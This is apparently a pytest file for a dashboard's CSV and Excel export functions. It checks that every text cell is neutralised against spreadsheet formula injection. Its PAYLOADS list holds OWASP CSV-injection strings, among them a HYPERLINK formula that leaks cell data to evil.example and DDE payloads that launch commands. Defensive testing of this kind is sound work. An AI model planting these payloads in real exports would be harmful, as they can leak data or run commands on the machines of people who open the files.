"""Downloads never carry a live formula: OWASP CSV-injection payloads in every text cell, CSV and Excel."""

from __future__ import annotations

import io
import re
import xml.etree.ElementTree as ET
import zipfile
from datetime import date

import polars as pl
import pytest

from dashboard.exports import to_csv, to_excel

# OWASP "CSV Injection" payloads, and the starts the guidance lists (=, +, -, @, tab, CR)
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
PLAIN = ["mild headache", "BP 182/110", "https://example.org"]


def _frame() -> pl.DataFrame:
    texts = PAYLOADS + PLAIN
    return pl.DataFrame(
        {
            "description": texts,
            "clinic_name": list(reversed(texts)),
            "severity_grade": list(range(len(texts))),
            "onset": [date(2026, 1, 5)] * len(texts),
        }
    )


def _sheet_strings(data: bytes) -> list[str]:
    """Every string cell of the workbook's first sheet, read from its XML (inline or shared)."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
        shared = []
        if "xl/sharedStrings.xml" in z.namelist():
            root = ET.fromstring(z.read("xl/sharedStrings.xml"))
            shared = [
                "".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t")) for si in root.findall("m:si", ns)
            ]
    out = []
    for cell in sheet.iter(f"{{{ns['m']}}}c"):
        if cell.get("t") == "inlineStr":
            out.append("".join(t.text or "" for t in cell.iter(f"{{{ns['m']}}}t")))
        elif cell.get("t") == "s":
            out.append(shared[int(cell.find("m:v", ns).text)])
    # OOXML escapes control characters as _xHHHH_; a spreadsheet reads them back
    return [re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), v) for v in out]


def _guarded(cell: str) -> bool:
    return cell.startswith("'") or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_cells_never_start_a_formula():
    frame = _frame()
    data = to_csv(frame, title="AE line list", header=[("clinics", '=HYPERLINK("x")')])
    text = data.decode()
    assert "# clinics: '=HYPERLINK" in text
    back = pl.read_csv(io.BytesIO(data), comment_prefix="#")
    for column in ("description", "clinic_name"):
        cells = back[column].to_list()
        assert all(_guarded(c) for c in cells), cells
    # the text itself is kept, behind the quote
    assert back["description"].to_list()[: len(PAYLOADS)] == [f"'{p}" for p in PAYLOADS]
    assert back["description"].to_list()[len(PAYLOADS) :] == PLAIN
    assert back["severity_grade"].to_list() == list(range(len(PAYLOADS) + len(PLAIN)))  # numbers stay numbers


def test_excel_stores_strings_never_formulas_or_links():
    frame = _frame()
    data = to_excel(frame, title="AE line list", header=[("clinics", "@evil")])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
        assert not any(name.startswith("xl/worksheets/_rels") for name in z.namelist())  # no hyperlinks
    cells = _sheet_strings(data)
    assert all(_guarded(c) for c in cells), [c for c in cells if not _guarded(c)]
    assert "'@evil" in cells
    assert "https://example.org" in cells  # a URL stays plain text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_is_neutralised_in_excel(payload):
    data = to_excel(pl.DataFrame({"description": [payload]}), title="t", header=[])
    assert f"'{payload}" in _sheet_strings(data)
